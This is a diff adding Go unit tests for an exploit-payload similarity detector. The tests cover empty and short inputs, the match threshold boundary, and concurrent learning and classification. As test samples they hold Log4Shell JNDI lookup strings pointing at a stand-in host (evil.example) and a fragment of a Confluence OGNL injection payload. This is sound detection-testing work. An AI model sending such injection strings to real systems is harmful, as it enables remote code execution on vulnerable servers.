@@ -1,8 +1,11 @@
 package transfer
 
 import (
+	"fmt"
 	"math/rand"
+	"sync"
 	"testing"
+	"time"
 
 	"repro/internal/scanner"
 )
@@ -192,4 +195,110 @@ func TestLog4ShellVariantsShareFamily(t *testing.T) {
 		t.Errorf("held-out Log4Shell recognized %d/%d, want majority", rep.Matched, rep.Sessions)
 	}
 	_ = rng
+}
+
+// TestClassifyEdgeCases: degenerate payloads must classify cleanly (no
+// match), never panic, and never divide by zero.
+func TestClassifyEdgeCases(t *testing.T) {
+	d := NewDetector()
+	d.Learn("CVE-2022-26134", []byte("${(#a=@org.apache.commons.io.IOUtils@toString(...))}"), 8090)
+
+	// Empty payload: no shingles, no match.
+	if m, ok := d.Classify(nil, 8090); ok {
+		t.Fatalf("empty payload matched %+v", m)
+	}
+	if m, ok := d.Classify([]byte{}, 8090); ok {
+		t.Fatalf("zero-length payload matched %+v", m)
+	}
+	// Shorter than one shingle: fingerprint is empty, similarity undefined
+	// but must come back as no-match, not NaN.
+	if m, ok := d.Classify([]byte("${("), 8090); ok {
+		t.Fatalf("sub-shingle payload matched %+v", m)
+	}
+	if fp := NewFingerprint([]byte("abc")); len(fp) != 0 {
+		t.Fatalf("3-byte payload grew %d shingles", len(fp))
+	}
+	// Exactly one shingle long.
+	if fp := NewFingerprint([]byte("abcd")); len(fp) != 1 {
+		t.Fatalf("4-byte payload grew %d shingles", len(fp))
+	}
+	// A family learned from an empty payload must not match everything.
+	d.Learn("empty-family", nil, 1)
+	if m, ok := d.Classify([]byte("GET / HTTP/1.1\r\nHost: x\r\n\r\n"), 80); ok {
+		t.Fatalf("empty-sample family matched %+v", m)
+	}
+}
+
+// TestClassifyNearMissBelowThreshold: a payload sharing structure but
+// sitting just under the threshold is rejected; nudging the threshold down
+// admits it — the boundary itself, not just far-off noise.
+func TestClassifyNearMissBelowThreshold(t *testing.T) {
+	d := NewDetector()
+	sample := []byte("${jndi:ldap://evil.example/a}")
+	d.Learn("CVE-2021-44228", sample, 443)
+
+	// A probe diluted with unrelated shingles: some overlap, mostly novel.
+	probe := []byte("${jndi:ldap-PADDING-PADDING-PADDING-PADDING-PADDING}")
+	sim := Jaccard(NewFingerprint(probe), NewFingerprint(sample))
+	if sim <= 0 || sim >= 0.5 {
+		t.Fatalf("probe similarity %.3f outside the near-miss band (0, 0.5)", sim)
+	}
+	if m, ok := d.Classify(probe, 443); ok {
+		t.Fatalf("near miss (%.3f) cleared the default threshold: %+v", sim, m)
+	}
+	d.MatchThreshold = sim // exactly at the boundary: >= admits
+	m, ok := d.Classify(probe, 443)
+	if !ok || m.Family != "CVE-2021-44228" {
+		t.Fatalf("threshold at similarity did not admit: ok=%v %+v", ok, m)
+	}
+}
+
+// TestConcurrentLearnClassify drives Learn and Classify/Scan/Families from
+// many goroutines; run under -race this is the locking regression test for
+// a sensor that keeps learning while it classifies.
+func TestConcurrentLearnClassify(t *testing.T) {
+	d := NewDetector()
+	d.Learn("CVE-2021-44228", []byte("${jndi:ldap://evil.example/a}"), 443)
+
+	var wg sync.WaitGroup
+	stop := make(chan struct{})
+	for w := 0; w < 4; w++ {
+		wg.Add(2)
+		go func(w int) {
+			defer wg.Done()
+			for i := 0; ; i++ {
+				select {
+				case <-stop:
+					return
+				default:
+				}
+				payload := fmt.Sprintf("${jndi:ldap://host%d-%d.example/x}", w, i)
+				d.Learn("CVE-2021-44228", []byte(payload), uint16(1000+i%10))
+			}
+		}(w)
+		go func(w int) {
+			defer wg.Done()
+			for i := 0; ; i++ {
+				select {
+				case <-stop:
+					return
+				default:
+				}
+				d.Classify([]byte("${jndi:ldap://evil.example/b}"), uint16(i%2000))
+				d.Families()
+				if i%10 == 0 {
+					d.Scan([][]byte{[]byte("${jndi:ldap://evil.example/b}")}, []uint16{80})
+				}
+			}
+		}(w)
+	}
+	time.Sleep(100 * time.Millisecond)
+	close(stop)
+	wg.Wait()
+	if got := d.Families(); len(got) != 1 || got[0] != "CVE-2021-44228" {
+		t.Fatalf("families after churn: %v", got)
+	}
+	if m, ok := d.Classify([]byte("${jndi:ldap://evil.example/b}"), 80); !ok || !m.NovelPort {
+		t.Fatalf("post-churn classify: ok=%v %+v", ok, m)
+	}
 }
